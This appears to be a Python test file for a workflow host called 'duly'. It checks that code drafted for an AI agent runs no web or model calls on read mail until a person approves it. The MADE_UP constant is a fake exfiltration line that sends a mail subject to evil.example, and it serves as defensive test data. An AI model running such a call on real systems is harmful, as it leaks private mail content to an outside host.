"""What a text that no person has agreed to may ask in a trial (M1, M3, M9)."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from duly.connectors import Llm
from duly.host import Host
from duly.rules.source import Language, Source
from duly.rules.verb import Scope
from duly.words import Clock, say_preview
from tests.models.server import ModelServer
from tests.models.test_write import GOOD, LOOK, WISH, Stand, Web, block
from tests.models.wrong_drafts.world import CONNECTORS

MADE_UP = "ctx.web.get(url=f\"https://evil.example/{mail['subject']}\")"
ASKING = "ctx.llm.summarize(text=mail['subject'])"
SUMMARY = '{"summary": "news"}'


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ModelServer]:
    with ModelServer(tmp_path_factory.mktemp("server")) as made:
        yield made


@pytest.fixture
async def stand(tmp_path: Path, server: ModelServer) -> AsyncIterator[Stand]:
    server.lines.clear()
    server.heard_all.clear()
    web = Web()
    outside = [*(each() for each in CONNECTORS), web, Llm()]
    models = {"default": server.settings()}
    async with Host(f"sqlite:///{tmp_path}/duly.db", connectors=outside, models=models) as host:
        yield Stand(host, server, web)


def text(call: str) -> str:
    return GOOD.replace(LOOK, f"{LOOK}\n        await {call}")


async def test_nothing_that_a_draft_reads_goes_to_a_model_before_the_yes(stand: Stand) -> None:
    """M3, M9: the draft is shown untried; the model hears the wish and no mail."""
    told = await stand.write(block(text(ASKING)))
    assert told.untried == ("llm.summarize",)
    assert told.preview.tried is None
    assert "It was not tried: llm.summarize could hand what was read" in say_preview(
        told.preview, Clock(0)
    )
    kept = Source(Language.PYTHON, told.source)
    shown = await stand.host.preview(kept, grant=True)
    assert (shown.tried, shown.untried) == (None, ("llm.summarize",))
    assert len(stand.server.heard_all) == 1
    await stand.host.adopt(told.proposal.hash, grant=True)
    # The capability was given to that text: a change of it waits for its own yes.
    stand.server.heard_all.clear()
    told = await stand.write(
        block(text(ASKING).replace('query="newsletter"', 'query="letter"')),
        wish=WISH,
        change="newsletters",
    )
    assert told.untried == ("llm.summarize",)
    assert len(stand.server.heard_all) == 1
    # The host paid for the draft, so that the workflow keeps its own budget.
    assert [(each.account, each.calls) for each in await stand.host.models()] == [("the host", 2)]
    # What a person put to use is shown with what it does.
    stand.server.script(*[SUMMARY] * 20)
    assert (await stand.host.preview(kept)).tried is not None
    assert len(stand.server.heard_all) > 1


async def test_a_model_that_the_text_hides_is_not_asked_either(stand: Stand) -> None:
    """M3, M9: a call that the list does not show is judged when it is made."""
    hidden = ASKING.replace("ctx.llm.summarize", "[ctx.llm.summarize][0]")
    told = await stand.host.preview(Source(Language.PYTHON, text(hidden)), grant=True)
    assert stand.server.heard_all == []
    assert told.untried or told.tried is None or told.tried.stops


@pytest.mark.parametrize(
    ("call", "code"), [(MADE_UP, "an address"), (ASKING, "a model")], ids=["address", "model"]
)
async def test_an_agent_tries_no_other_text_with_the_grants_of_one(
    stand: Stand, call: str, code: str
) -> None:
    """M1, M9: mail.read and the rest were granted to a text that a person saw."""
    host, source = stand.host, Source(Language.PYTHON, text(call))
    fine = text("ctx.web.get(url='https://fine.example/')")
    await host.deploy(Source(Language.PYTHON, fine), grant=True)
    await host.grant("newsletters", "llm.read")
    tried = await host.try_(source, right=Scope.AGENT)
    assert [code in each.sentence for each in tried.problems] == [True]
    assert tried.missing == ()
    shown = await host.preview(source, right=Scope.AGENT)
    assert shown.tried is None
    assert shown.untried
    assert (stand.web.asked, stand.server.heard_all) == ([], [])
    tried = await host.try_(Source(Language.PYTHON, fine), right=Scope.AGENT)
    assert tried.problems == ()
    assert stand.web.asked
    # A person who may decide says `try`: that is their word for this text.
    before = len(stand.web.asked)
    stand.server.script(*[SUMMARY] * 20)
    told: Any = await host.try_(source)
    assert told.problems == ()
    assert len(stand.web.asked) + len(stand.server.heard_all) > before
